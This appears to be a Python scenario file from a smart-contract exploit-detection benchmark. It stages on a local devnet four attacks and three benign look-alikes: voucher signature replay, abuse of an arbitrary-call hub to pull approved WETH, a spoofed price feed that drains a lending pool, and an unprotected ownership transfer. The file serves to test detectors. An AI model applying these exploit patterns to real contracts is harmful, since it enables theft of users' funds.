"""Who may do what: replayed vouchers, an open call hub, an open feed setter, an open ownership
transfer, and the honest calls that look like them.

- `gen-voucher-cross-desk-replay`: VoucherDesk signs (payee, amount) only; a voucher the operator
  gave mallory at one desk is presented ten times at another desk of the same operator.
- `gen-voucher-cashed-once` (benign): grace cashes her own voucher once.
- `gen-hub-arbitrary-call`: ApprovalHub's `batch` calls any target as the hub; mallory's EOA makes
  it call WETH.transferFrom(user, mallory) on users who approved the hub.
- `gen-hub-batch-payments` (benign): dave pays two people his own WETH through `batch`.
- `gen-open-feed-setter`: FeedLendingPool.setFeed lost its owner check; the attacker installs
  itself as the price feed and borrows the pool dry against one token.
- `gen-ownership-two-step` (multi-tx): OwnedTreasury.transferOwnership has no owner check;
  mallory makes herself owner in one block and spends the treasury in the next (the exploit tx,
  in which every check passes).
- `gen-keeper-harvest` (benign): anyone may harvest RewardHarvester for a 1% bounty; frank, who
  has no role, does and walks away with the bounty.
"""

from __future__ import annotations

from eth_abi.packed import encode_packed
from eth_utils.crypto import keccak

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address, sign_digest
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract
from timemachine.catalog.scenarios.generalization.kit import (
    ATTACKER,
    MAX,
    deploy_own,
    expect,
)
from timemachine.catalog.scenarios.world import World

OPERATOR = "deployer"
VOUCHER = 2 * ETHER
DESK_FUNDS = 20 * ETHER
REPLAYS = 10
HUB_WETH = {"alice": 6, "bob": 4}
FEED_PRICE = 10**15
"""0.001 ETH per collateral token."""
POOL_CASH = {"alice": 20, "erin": 10}
HONEST_COLLATERAL = 1_000 * 10**18
HONEST_BORROW = ETHER // 2
DONATIONS = {"bob": 5, "carol": 5, "heidi": 8}
REWARDS = {"alice": 4, "dave": 6}


def voucher(payee: str, amount: int) -> bytes:
    """The operator's signature of (payee, amount), as VoucherDesk checks it."""
    digest = keccak(encode_packed(["address", "uint256"], [actor_address(payee), amount]))
    return sign_digest(OPERATOR, digest)


async def _desk(world: World, label: str) -> Contract:
    desk = await deploy_own(
        world.chain, "deployer", "VoucherDesk", actor_address(OPERATOR), name=label
    )
    await world.chain.mine()
    await world.chain.send("deployer", desk.address, value=DESK_FUNDS, what=f"fund {label}")
    await world.chain.mine()
    return desk


async def stage_voucher_replay(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    issuing = await _desk(world, "VoucherDesk A")
    target = await _desk(world, "VoucherDesk B")
    replayer = await deploy_own(chain, ATTACKER, "VoucherReplayer")
    signature = voucher(ATTACKER, VOUCHER)
    await issuing.send(ATTACKER, "redeem", a(ATTACKER), VOUCHER, signature)
    await chain.mine()
    return await VOUCHER_REPLAY.drained(
        chain,
        lambda: replayer.send(
            ATTACKER,
            "replay",
            target.address,
            a(ATTACKER),
            VOUCHER,
            signature,
            REPLAYS,
            gas=600_000,
        ),
        attacker=a(ATTACKER),
        contracts=[replayer.address],
        victim=target.address,
        held=DESK_FUNDS,
        left=0,
        what="cross-desk voucher replay",
    )


async def stage_voucher_once(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    desk = await _desk(world, "VoucherDesk (benign)")
    tx = await desk.send("grace", "redeem", a("grace"), VOUCHER, voucher("grace", VOUCHER))
    block = await chain.mine()
    return await VOUCHER_ONCE.paid_out(
        chain,
        tx,
        block,
        contract=desk.address,
        held=DESK_FUNDS,
        left=DESK_FUNDS - VOUCHER,
        payee="grace",
        paid=VOUCHER,
        what="voucher cashed once",
    )


async def _hub(world: World, users: dict[str, int]) -> Contract:
    """An ApprovalHub that `users` approved for WETH, after wrapping their amounts."""
    chain, weth = world.chain, world.weth
    hub = await deploy_own(chain, "deployer", "ApprovalHub")
    for user, amount in users.items():
        await weth.send(user, "deposit", value=amount * ETHER)
    await chain.mine()
    for user in users:
        await weth.send(user, "approve", hub.address, MAX)
    await chain.mine()
    return hub


async def stage_hub_arbitrary_call(world: World) -> ScenarioRecord:
    chain, weth, a = world.chain, world.weth, actor_address
    hub = await _hub(world, HUB_WETH)
    await hub.send("alice", "pay", weth.address, a("carol"), 1 * ETHER)
    await chain.mine()
    victims = list(HUB_WETH)
    held = {user: await weth.call("balanceOf", a(user)) for user in victims}
    calls = [
        (weth.address, weth.artifact.calldata("transferFrom", a(user), a(ATTACKER), held[user]))
        for user in victims
    ]
    outcome = await measure_exploit(
        chain,
        lambda: hub.send(ATTACKER, "batch", calls, gas=300_000),
        attackers=[a(ATTACKER)],
        victims=[a(user) for user in victims],
        tokens=[weth.address],
        expected_losses={weth.address.lower(): sum(held.values())},
        what="hub arbitrary call",
    )
    return HUB_ARBITRARY_CALL.exploited(
        outcome, attacker=a(ATTACKER), contracts=[], victims=[a(user) for user in victims]
    )


async def stage_hub_batch(world: World) -> ScenarioRecord:
    chain, weth, a = world.chain, world.weth, actor_address
    hub = await _hub(world, {"dave": 3})
    paid = {"erin": ETHER, "frank": 2 * ETHER}
    calls = [
        (weth.address, weth.artifact.calldata("transferFrom", a("dave"), a(user), amount))
        for user, amount in paid.items()
    ]
    before = {user: await weth.call("balanceOf", a(user)) for user in paid}
    tx = await hub.send("dave", "batch", calls, gas=300_000)
    block = await chain.mine()
    after = {user: await weth.call("balanceOf", a(user)) for user in paid}
    expect("batch payments", {u: after[u] - before[u] for u in paid}, paid)
    return HUB_BATCH.honest(tx, block, "dave")


async def stage_open_feed_setter(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    token = await deploy_own(chain, "deployer", "GenToken", "Pledge", "PLG", name="PLG")
    feed = await deploy_own(chain, "deployer", "OwnedFeed", FEED_PRICE)
    await chain.mine()
    pool = await deploy_own(chain, "deployer", "FeedLendingPool", token.address, feed.address)
    spoofer = await deploy_own(chain, ATTACKER, "FeedSpoofer")
    await token.send("deployer", "mint", a("bob"), HONEST_COLLATERAL)
    await chain.mine()
    await token.send("deployer", "mint", spoofer.address, 10**18)
    await pool.fund("supply", POOL_CASH)
    await token.send("bob", "approve", pool.address, MAX)
    await pool.send("bob", "depositCollateral", HONEST_COLLATERAL)
    await pool.send("deployer", "setLtv", 6_000)
    await chain.mine()
    await pool.send("bob", "borrow", HONEST_BORROW)
    await chain.mine()
    record = await OPEN_FEED_SETTER.drained(
        chain,
        lambda: spoofer.send(ATTACKER, "attack", pool.address, 10**18, gas=400_000),
        attacker=a(ATTACKER),
        contracts=[spoofer.address],
        victim=pool.address,
        held=sum(POOL_CASH.values()) * ETHER - HONEST_BORROW,
        left=0,
        what="open feed setter",
    )
    expect("installed feed", await pool.call("feed"), spoofer.address.lower())
    return record


async def stage_two_step_takeover(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    treasury = await deploy_own(chain, "deployer", "OwnedTreasury")
    await chain.mine()
    for donor, amount in DONATIONS.items():
        await chain.send(donor, treasury.address, value=amount * ETHER, what=f"{donor} donates")
    await chain.mine()
    await treasury.send("deployer", "spend", a("grace"), 3 * ETHER)
    await chain.mine()
    await treasury.send(ATTACKER, "transferOwnership", a(ATTACKER))
    await chain.mine()
    held = (sum(DONATIONS.values()) - 3) * ETHER
    return await TWO_STEP_TAKEOVER.drained(
        chain,
        lambda: treasury.send(ATTACKER, "spend", a(ATTACKER), held),
        attacker=a(ATTACKER),
        contracts=[],
        victim=treasury.address,
        held=held,
        left=0,
        what="two-step takeover",
    )


async def stage_keeper_harvest(world: World) -> ScenarioRecord:
    chain = world.chain
    harvester = await deploy_own(chain, "deployer", "RewardHarvester", actor_address("deployer"))
    await chain.mine()
    for payer, amount in REWARDS.items():
        await chain.send(payer, harvester.address, value=amount * ETHER, what=f"{payer} rewards")
    await chain.mine()
    held = sum(REWARDS.values()) * ETHER
    tx = await harvester.send("frank", "harvest")
    block = await chain.mine()
    return await KEEPER_HARVEST.paid_out(
        chain,
        tx,
        block,
        contract=harvester.address,
        held=held,
        left=0,
        payee="frank",
        paid=held // 100,
        what="keeper harvest",
    )


VOUCHER_REPLAY = declared("gen-voucher-cross-desk-replay", stage_voucher_replay)
VOUCHER_ONCE = declared("gen-voucher-cashed-once", stage_voucher_once)
HUB_ARBITRARY_CALL = declared("gen-hub-arbitrary-call", stage_hub_arbitrary_call)
HUB_BATCH = declared("gen-hub-batch-payments", stage_hub_batch)
OPEN_FEED_SETTER = declared("gen-open-feed-setter", stage_open_feed_setter)
TWO_STEP_TAKEOVER = declared("gen-ownership-two-step", stage_two_step_takeover)
KEEPER_HARVEST = declared("gen-keeper-harvest", stage_keeper_harvest)
